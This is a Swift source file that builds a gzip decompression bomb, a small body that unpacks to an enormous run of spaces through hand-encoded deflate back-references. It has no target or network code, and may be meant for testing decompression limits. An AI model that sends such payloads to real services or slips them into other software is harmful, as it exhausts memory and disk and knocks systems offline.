/// A small body that unpacks to a large one of spaces.
public enum GzipBomb {
  /// Makes one: RFC 1952 around one block of RFC 1951 with fixed codes.
  ///
  /// - Parameter bytes: How large it unpacks; rounded down to a multiple of 2,064.
  /// - Returns: The compressed bytes, about a 159th of it.
  public static func body(unpackingTo bytes: Int) -> [UInt8] {
    var bits = Bits()
    // The last block, with fixed codes, and the space that is repeated.
    bits.add(0b1, 1)
    bits.add(0b01, 2)
    bits.addCode(0x30 + 0x20, 8)
    // Eight times "258 bytes, from one back", of 13 bits each, end where they began within a byte.
    let start = bits.bytes.count
    for _ in 0..<8 {
      bits.addCode(0b1100_0101, 8)
      bits.addCode(0, 5)
    }
    // The bits that were left over go round with the pattern.
    let pattern = Array(bits.bytes[start...])
    var packed = Array(bits.bytes[..<start])
    packed.reserveCapacity(pattern.count * (bytes / 2064) + 32)
    for _ in 0..<bytes / 2064 { packed += pattern }
    return header + packed
  }

  private static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]

  /// Bits, the lowest of each byte first.
  private struct Bits {
    var bytes: [UInt8] = []
    private var current: UInt8 = 0
    private var count = 0

    mutating func add(_ value: Int, _ width: Int) {
      for place in 0..<width {
        current |= UInt8(value >> place & 1) << count
        count += 1
        guard count == 8 else { continue }
        bytes.append(current)
        (current, count) = (0, 0)
      }
    }

    /// A code goes highest bit first.
    mutating func addCode(_ code: Int, _ width: Int) {
      for place in stride(from: width - 1, through: 0, by: -1) { add(code >> place & 1, 1) }
    }
  }
}
